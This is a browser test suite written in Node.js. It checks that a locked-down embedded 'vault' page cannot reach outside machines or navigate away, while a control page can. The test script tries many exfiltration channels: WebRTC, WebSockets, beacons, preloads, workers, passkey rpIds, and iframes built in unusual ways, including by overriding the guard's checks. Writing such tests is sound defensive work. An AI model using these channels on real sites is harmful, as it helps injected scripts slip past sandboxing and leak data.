// As if a script had been injected into the vault: it tries every way to reach other machines, where real sinks for UDP and TCP
// listen. Nothing reaches them. The same attempts on a page without the lockdown do, which shows that the sinks work.

import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import { networkInterfaces } from 'node:os';
import { describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { browsers, openBrowser, startServer } from './lib/harness.mjs';

const PATIENCE = 4000; // ms in which sent data arrives

/** An address of this machine other than loopback, where browsers do not look for peers. */
const machine = Object.values(networkInterfaces()).flat().find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1';

/** Listens for datagrams and for connections. */
async function sinks() {
  const [datagrams, connections] = [[], []];
  const udp = dgram.createSocket('udp4');
  udp.on('message', (data) => datagrams.push(data));
  await new Promise((ready) => udp.bind(0, machine, ready));
  const open = new Set();
  const tcp = net.createServer((socket) => {
    open.add(socket);
    connections.push('a connection');
    socket.on('data', (data) => {
      const text = data.toString('latin1');
      connections.push(text);
      // Browsers have few connections to a host: they wait until one is free.
      if (/^[A-Z]+ \//.test(text)) socket.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
    socket.on('error', () => {});
  });
  await new Promise((ready) => tcp.listen(0, machine, ready));
  const stop = () => {
    udp.close();
    for (const socket of open) socket.destroy();
    tcp.close();
  };
  return { udp: udp.address().port, tcp: tcp.address().port, datagrams, connections, stop };
}

/** In a page: makes all attempts. Returns the names of those that did not fail at once. `host` is a name of the sink for TCP. */
async function attempts({ machine, udp, tcp, host }) {
  const there = `http://${machine}:${tcp}/`;
  const [XHTML, SVG] = ['http://www.w3.org/1999/xhtml', 'http://www.w3.org/2000/svg'];
  const ice = { iceServers: [{ urls: `stun:${machine}:${udp}` }, { urls: `turn:${machine}:${tcp}?transport=tcp`, username: 'u', credential: 'c' }] };
  const gather = (Peer) => {
    const peer = new Peer(ice);
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const framed = (frame) => {
    document.body.append(frame);
    return frame;
  };
  const fresh = () => framed(document.createElement('iframe'));
  const linked = (rel, href = there) => document.head.append(Object.assign(document.createElement('link'), { rel, href, as: 'fetch' }));
  const within = (make) => make(window[0]);
  const peerWithin = () => within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
  /** The root element that an XML document is created with. */
  const born = (name, space = XHTML) => document.implementation.createDocument(space, name).documentElement;
  const inSvg = (name) => {
    const svg = framed(document.createElementNS(SVG, 'svg'));
    return svg.appendChild(document.createElementNS(SVG, name));
  };
  class Own extends HTMLElement {}
  const ownFrames = (registry) => {
    class OwnFrame extends HTMLIFrameElement {}
    registry.define(`own-${Math.random().toString(36).slice(2)}`, OwnFrame, { extends: 'iframe' });
    framed(new OwnFrame());
    return peerWithin();
  };
  const inserting = {
    appendChild: (node) => document.body.appendChild(node),
    insertBefore: (node) => document.body.insertBefore(node, null),
    replaceChild: (node) => document.body.replaceChild(node, document.body.appendChild(document.createElement('p'))),
    moveBefore: (node) => document.body.moveBefore(document.adoptNode(node), null),
    prepend: (node) => document.body.prepend(node),
    after: (node) => document.body.lastChild.after(node),
    before: (node) => document.body.lastChild.before(node),
    replaceWith: (node) => document.body.appendChild(document.createElement('p')).replaceWith(node),
    replaceChildren: (node) => document.body.appendChild(document.createElement('p')).replaceChildren(node),
    insertAdjacentElement: (node) => document.body.insertAdjacentElement('beforeend', node),
    insertNode: (node) => {
      const range = document.createRange();
      range.setStart(document.body, 0);
      range.insertNode(node);
    },
    surroundContents: (node) => {
      const range = document.createRange();
      range.selectNode(document.body.appendChild(document.createElement('p')));
      range.surroundContents(node);
    },
    importNode: (node) => document.body.append(document.importNode(node, true)),
    cloneNode: (node) => document.body.append(node.cloneNode(true)),
    'a fragment': (node) => {
      const fragment = document.createDocumentFragment();
      fragment.append(node);
      document.body.append(fragment);
    },
    'a shadow': (node) => framed(document.createElement('div')).attachShadow({ mode: 'closed' }).append(node),
    'another element of it': (node) => {
      const around = document.createElement('div');
      around.append(node);
      document.body.append(around);
    },
    'foreign content': (node) => inSvg('foreignObject').append(node),
  };
  const ways = {
    peer: () => gather(RTCPeerConnection),
    'peer of a frame': () => gather(fresh().contentWindow.RTCPeerConnection),
    'peer of a frame by its number': () => (fresh(), within(({ RTCPeerConnection }) => gather(RTCPeerConnection))),
    'peer of a frame in another case': () => {
      framed(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame of another document': () => {
      framed(document.implementation.createHTMLDocument().createElement('iframe'));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame made of text': () => {
      document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame in a fragment': () => {
      document.body.append(document.createRange().createContextualFragment('<iframe></iframe>'));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame that a parser made': () => {
      document.body.append(new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame by a shadow': () => {
      const shadow = framed(document.createElement('div')).attachShadow({ mode: 'open' });
      shadow.innerHTML = '<iframe></iframe>';
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame that is an element of its own': () => {
      class Own extends HTMLIFrameElement {}
      customElements.define('own-frame', Own, { extends: 'iframe' });
      framed(new Own());
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer of a frame by a style sheet for XML': () => {
      const sheet = document.implementation.createDocument('http://www.w3.org/1999/XSL/Transform', 'xsl:stylesheet');
      const [template, element] = ['template', 'element'].map((name) => sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', `xsl:${name}`));
      sheet.documentElement.setAttribute('version', '1.0');
      template.setAttribute('match', '/');
      element.setAttribute('name', 'iframe');
      element.setAttribute('namespace', 'http://www.w3.org/1999/xhtml');
      sheet.documentElement.append(template);
      template.append(element);
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      document.body.append(processor.transformToFragment(document, document));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    'peer after the guard was bribed': () => {
      Object.defineProperty(HTMLIFrameElement, Symbol.hasInstance, { value: () => false });
      Object.defineProperty(Element.prototype, 'localName', { get: () => 'p' });
      Object.prototype.iframe = false;
      return gather(fresh().contentWindow.RTCPeerConnection);
    },
    'peer of an object': () => {
      framed(Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }));
      return within(({ RTCPeerConnection }) => gather(RTCPeerConnection));
    },
    ...Object.fromEntries(
      Object.entries(inserting).flatMap(([how, insert]) => [
        [`peer of a frame of XML by ${how}`, () => (insert(born('iframe')), peerWithin())],
        [`link of XML by ${how}`, () => insert(Object.assign(born('link'), { rel: 'preconnect', href: there }))],
      ]),
    ),
    'peer of an embed of XML': () => (framed(Object.assign(born('embed'), { type: 'text/html', src: 'about:blank' })), peerWithin()),
    'peer of a frame that the registry of the document knows': () => ownFrames(document.customElementRegistry),
    'peer of a frame that the registry of an element knows': () => ownFrames(document.body.customElementRegistry),
    'peer of a frame that the registry of a shadow knows': () =>
      ownFrames(framed(document.createElement('div')).attachShadow({ mode: 'open' }).customElementRegistry),
    'peer of a frame in an element of its own': () => {
      const registry = new CustomElementRegistry();
      registry.define('own-element', Own);
      framed(new Own()).attachShadow({ mode: 'open', customElementRegistry: registry }).innerHTML = '<iframe></iframe>';
      return peerWithin();
    },
    'peer of a frame in unsafe text': () => (framed(document.createElement('div')).setHTMLUnsafe('<iframe></iframe>'), peerWithin()),
    'peer of a frame in a parsed document': () =>
      (framed(Document.parseHTMLUnsafe('<iframe></iframe>').querySelector('iframe')), peerWithin()),
    'peer of a frame by a command': () => {
      framed(Object.assign(document.createElement('div'), { contentEditable: 'true' })).focus();
      document.execCommand('insertHTML', false, '<iframe></iframe>');
      return peerWithin();
    },
    'peer of a frame by an answer': async () => {
      const request = new XMLHttpRequest();
      request.open('GET', URL.createObjectURL(new Blob([`<iframe xmlns="${XHTML}"/>`], { type: 'text/xml' })));
      await new Promise((done, failed) => (Object.assign(request, { onload: done, onerror: failed }), request.send()));
      document.body.append(request.responseXML.documentElement);
      return peerWithin();
    },
    'peer of another body': () => {
      const body = born('body');
      body.append(born('iframe'));
      document.body = body;
      return peerWithin();
    },
    'peer of a window': () => gather(open('about:blank').RTCPeerConnection),
    socket: () => void new WebSocket(there.replace('http', 'ws')),
    'socket of a frame': () => void new (fresh().contentWindow.WebSocket)(there.replace('http', 'ws')),
    transport: () => new WebTransport(there.replace('http:', 'https:')).ready,
    events: () => void new EventSource(`${there}events`),
    fetch: () => fetch(`${there}fetch`, { mode: 'no-cors' }),
    beacon: () => void navigator.sendBeacon(`${there}beacon`, 'x'),
    image: () => void (new Image().src = `${there}image.png`),
    preconnect: () => linked('preconnect'),
    prefetch: () => linked('prefetch', `${there}prefetch`),
    preload: () => linked('preload', `${there}preload`),
    'a link that is there': () => Object.assign(document.querySelector('link'), { rel: 'preconnect', href: there }),
    'a copy of a link': () => document.head.append(Object.assign(document.querySelector('link').cloneNode(), { rel: 'preconnect', href: there })),
    'a link in text': () => document.head.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="${there}">`),
    style: () => document.body.style.setProperty('background', `url(${there}style.png)`),
    video: () => framed(Object.assign(document.createElement('video'), { src: `${there}video` })).load(),
    script: () => void framed(Object.assign(document.createElement('script'), { src: `${there}script.js` })),
    module: () => import(`${there}module.js`),
    'preload of XML': () => document.head.append(Object.assign(born('link'), { rel: 'preload', href: `${there}xml-preload`, as: 'fetch' })),
    'a name to be looked up': () => linked('dns-prefetch'),
    'rules of what comes next': () => {
      const text = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${there}rules`] }], prerender: [{ source: 'list', urls: [there] }] });
      framed(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: text }));
    },
    'image of XML': () => void framed(Object.assign(born('img'), { src: `${there}xml-image` })),
    'image of SVG': () => inSvg('image').setAttribute('href', `${there}svg-image`),
    'use of SVG': () => inSvg('use').setAttribute('href', `${there}svg-use#x`),
    'filter of SVG': () => inSvg('feImage').setAttribute('href', `${there}svg-filter`),
    'sound without a tree': () => void new Audio(`${there}audio`).load(),
    'image of a set': () => void (document.createElement('img').srcset = `${there}srcset 1x`),
    'an image that is attributed': () => void (document.createElement('img').attributionSrc = `${there}attribution`),
    'a button with an image': () => void framed(Object.assign(document.createElement('input'), { type: 'image', src: `${there}input` })),
    'a sheet that imports': () => framed(Object.assign(document.createElement('style'), { textContent: `@import "${there}import.css";` })),
    'a sheet of its own': () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${there}sheet.png); } @font-face { font-family: x; src: url(${there}font); }`);
      document.adoptedStyleSheets.push(sheet);
    },
    'a style sheet for the document': () => document.insertBefore(
      document.createProcessingInstruction('xml-stylesheet', `href="${there}xml.css"`), document.documentElement),
    font: () => new FontFace('x', `url(${there}face)`).load(),
    'module of data': () => import(`${there}data.json`, { with: { type: 'json' } }),
    worker: () => void new Worker(`${there}worker.js`),
    'worker of a Blob': () => void new Worker(URL.createObjectURL(new Blob([`fetch('${there}blob-worker')`]))),
    'shared worker': () => void new SharedWorker(`${there}shared.js`),
    'worklet for paint': () => CSS.paintWorklet.addModule(`${there}paint.js`),
    'worklet for sound': () => new AudioContext().audioWorklet.addModule(`${there}sound.js`),
    'worklet for shared storage': () => window.sharedStorage.worklet.addModule(`${there}storage.js`),
    'service worker': () => navigator.serviceWorker.register(`${there}sw.js`),
    'fetch, later': () => void fetchLater(`${there}later`, { activateAfter: 0 }),
    'fetch in the background': async () =>
      (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [`${there}background`], { icons: [{ src: `${there}icon` }] }),
    'an old request': () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${there}xhr`);
      request.send();
    },
    payment: () => new PaymentRequest([{ supportedMethods: `https://${host}/pay` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    notification: () => void new Notification('x', { icon: `${there}notification` }),
    'notification of its own': async () => (await navigator.serviceWorker.ready).showNotification('x', { icon: `${there}shown` }),
    'what is played': () => void (navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `${there}artwork` }] })),
    'an account elsewhere': () => navigator.credentials.get({ identity: { providers: [{ configURL: `https://${host}/c.json`, clientId: 'x' }] } }),
    'a group of interest': () => navigator.joinAdInterestGroup({ owner: `https://${host}`, name: 'x', lifetimeMs: 1000 }, 10),
    'a passkey of another name': () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: `get.${host}` } }),
    'a new passkey of another name': () =>
      navigator.credentials.create({
        publicKey: {
          rp: { id: `create.${host}`, name: 'x' },
          user: { id: new Uint8Array(16), name: 'x', displayName: 'x' },
          challenge: new Uint8Array(32),
          pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
        },
      }),
    'a name that all objects have': async () => {
      Object.prototype.rpId = `all.${host}`;
      try {
        const extensions = { prf: { eval: { first: new Uint8Array(32) } } };
        await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), userVerification: 'discouraged', extensions } });
      } finally {
        delete Object.prototype.rpId;
      }
    },
    'a passkey that is gone': () => PublicKeyCredential.signalUnknownCredential({ rpId: `gone.${host}`, credentialId: 'AAAA' }),
    ping: () => framed(Object.assign(document.createElement('a'), { href: '#', ping: `${there}ping` })).click(),
  };
  const done = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      await Promise.race([way(), new Promise((go) => setTimeout(go, 300))]);
      done.push(name);
    } catch {
      // refused
    }
  }
  return done;
}

/** In a page: starts a navigation with a secret, in the `way` of this name. Without a `way`, returns the names of all ways. */
async function move({ there, way }) {
  const born = (name) => document.implementation.createDocument('http://www.w3.org/1999/xhtml', name).documentElement;
  const placed = (element) => document.body.appendChild(element);
  const made = (name, more) => placed(Object.assign(document.createElement(name), more));
  const html = `<link rel="preconnect" href="${there}"><meta http-equiv="refresh" content="0;url=${there}blob">`;
  const ways = {
    address: () => void (location.href = `${there}address`),
    assign: () => location.assign(`${there}assign`),
    replace: () => location.replace(`${there}replace`),
    'the whole window': () => void (top.location = `${there}top`),
    'the navigation itself': () => navigation.navigate(`${there}navigate`),
    'a page of its own making': () => void (location.href = URL.createObjectURL(new Blob([html], { type: 'text/html' }))),
    'a window of its own name': () => open(`${there}open`, '_self'),
    anchor: () => made('a', { href: `${there}anchor` }).click(),
    'anchor of XML': () => placed(Object.assign(born('a'), { href: `${there}born` })).click(),
    'anchor without a tree': () => Object.assign(document.createElement('a'), { href: `${there}detached` }).click(),
    'a file to be saved': () => made('a', { href: `${there}download`, download: 'x' }).click(),
    form: () => made('form', { action: `${there}form` }).submit(),
    meta: () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${there}meta` })),
    'a meta that is there': () =>
      Object.assign(document.querySelector('meta[name]'), { content: `0;url=${there}there`, httpEquiv: 'refresh' }),
  };
  if (!way) return Object.keys(ways);
  try {
    ways[way]();
    await new Promise((go) => setTimeout(go, 500));
  } catch {
    // refused
  }
}

/** A plain site that embeds the vault without any restrictions. */
async function plainSite() {
  const text = '<meta name="x" content="y"><link rel="icon" href="data:,"><body>';
  const server = http.createServer((_, answer) => answer.writeHead(200, { 'Content-Type': 'text/html' }).end(text));
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  const stop = () => (server.close(), server.closeAllConnections());
  return { url: `http://localhost:${server.address().port}/`, origin: `http://127.0.0.1:${server.address().port}`, stop };
}

/** Opens the site with the vault in it. */
async function embedded(browser, site, server) {
  const visit = await browser.open(site.origin, { ready: false });
  await visit.page.evaluate((src) => {
    addEventListener('message', ({ data, source }) => {
      if (data?.op !== 'ready') return;
      const { port1, port2 } = new MessageChannel();
      window.line = port1;
      source.postMessage({ safelight: 1, op: 'connect' }, '*', [port2]);
    });
    const allow = 'publickey-credentials-get; publickey-credentials-create';
    document.body.append(Object.assign(document.createElement('iframe'), { src, allow, width: 900, height: 900 }));
  }, server.url.replace('127.0.0.1', 'localhost'));
  await visit.until(() => document.documentElement.dataset.ready === 'yes', 'the vault');
  return visit;
}

for (const name of browsers) {
  describe(`a script that broke into the vault, in ${name}`, () => {
    it('reaches no other machine, and the same script on another page does', async () => {
      const [seen, control, ahead] = [await sinks(), await sinks(), await sinks()];
      const site = await plainSite();
      const server = await startServer('--embedder', site.origin);
      const mapped = [seen, control].map(({ tcp }, i) => `MAP *.${['seen', 'control'][i]}.example ${machine}:${tcp}`);
      // The browser driver switches off Firefox's speculative connections.
      const prefs = { 'network.http.speculative-parallel-limit': 6 };
      const browser = await openBrowser(name, { prefs, args: [`--host-resolver-rules=${mapped}`] });
      try {
        // The control first: it shows that sent data would be seen.
        const other = await browser.open(site.url, { ready: false });
        const sent = await other.page.evaluate(attempts, { machine, udp: control.udp, tcp: control.tcp, host: 'x.control.example' });
        await sleep(PATIENCE);
        assert.ok(control.datagrams.length > 0, `no datagrams of ${sent}`);
        const text = control.connections.join('\n');
        const heard = (path) => text.includes(` /${path} `);
        assert.deepEqual(['fetch', 'beacon', 'image.png', 'prefetch', 'svg-image', 'xhr'].filter((path) => !heard(path)), []);
        assert.match(text, /Upgrade: websocket/i);
        if (name === 'chromium') assert.match(text, /\x16\x03[^]*get\.x\.control\.example/); // the name in the first message of TLS
        const preconnect = (href) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href }));
        await other.page.evaluate(preconnect, `http://${machine}:${ahead.tcp}/`);
        await sleep(PATIENCE);
        assert.deepEqual(ahead.connections, ['a connection']);
        await other.page.close();

        const page = await embedded(browser, site, server);
        const tried = await page.vault.evaluate(attempts, { machine, udp: seen.udp, tcp: seen.tcp, host: 'x.seen.example' });
        await sleep(PATIENCE);
        assert.deepEqual(seen.datagrams, []);
        assert.deepEqual(seen.connections, []);
        assert.equal(await page.vault.evaluate(() => window.length), 0, `there is a frame: ${tried}`);
        assert.deepEqual(tried.filter((way) => /peer|socket|link|preconnect|prefetch|preload|passkey|worker/.test(way)), []);
      } finally {
        await browser.close();
        await server.stop();
        site.stop();
        for (const sink of [seen, control, ahead]) sink.stop();
      }
    });

    it('cannot navigate, and the same script on another page can', async () => {
      const [seen, control] = [await sinks(), await sinks()];
      const site = await plainSite();
      const server = await startServer('--embedder', site.origin);
      const prefs = { 'network.http.speculative-parallel-limit': 6, 'security.warn_submit_secure_to_insecure': false };
      const browser = await openBrowser(name, { prefs });
      const there = ({ tcp }) => `http://${machine}:${tcp}/`;
      try {
        const page = await embedded(browser, site, server);
        const ways = await page.vault.evaluate(move, {});
        for (const way of ways) await page.vault.evaluate(move, { there: there(seen), way });
        await sleep(PATIENCE);
        assert.deepEqual(seen.connections, []);
        assert.equal(await page.vault.evaluate(() => document.documentElement.dataset.ready), 'yes', 'it is still there');
        await page.page.close();

        // The vault by itself, without a frame that restricts it.
        const alone = await browser.open(server.url.replace('127.0.0.1', 'localhost'), { ready: false });
        for (const way of ways) await alone.page.evaluate(move, { there: there(seen), way });
        await sleep(PATIENCE);
        assert.deepEqual(seen.connections, []);
        await alone.page.close();

        const alike = (way) => name === 'chromium' || way !== 'a meta that is there'; // Firefox ignores changes to it
        for (const way of ways.filter(alike)) {
          const before = control.connections.length;
          const other = await browser.open(site.url, { ready: false });
          const moved = other.page.evaluate(move, { there: there(control), way }).catch(() => {}); // the page is gone
          await Promise.race([moved, sleep(1000)]);
          for (let tries = 0; tries < 40 && control.connections.length === before; tries++) await sleep(50);
          assert.ok(control.connections.length > before, way);
          await other.page.close();
        }
      } finally {
        await browser.close();
        await server.stop();
        site.stop();
        for (const sink of [seen, control]) sink.stop();
      }
    });
  });
}
